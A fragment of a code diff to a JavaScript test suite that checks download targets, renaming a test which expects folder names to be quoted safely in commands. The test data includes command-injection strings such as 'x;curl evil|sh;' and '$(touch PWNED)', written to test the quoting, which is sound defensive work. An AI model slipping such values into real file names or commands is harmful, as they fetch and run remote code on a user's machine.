@@ -35,7 +35,7 @@ describe('the target of a download', () => {
   });
 
   it.each(['x;curl evil|sh;', '$(touch PWNED)', "it's", '-rf'])(
-    'in a folder %s that does not exist is made by a command that holds one word of it',
+    'in a folder %s that does not exist has a quoted command that creates the folder',
     async (name) => {
       const at = createFolder();
       const error = await hasExistingFile(join(at, name, 'x'), `${name}/x`).catch(
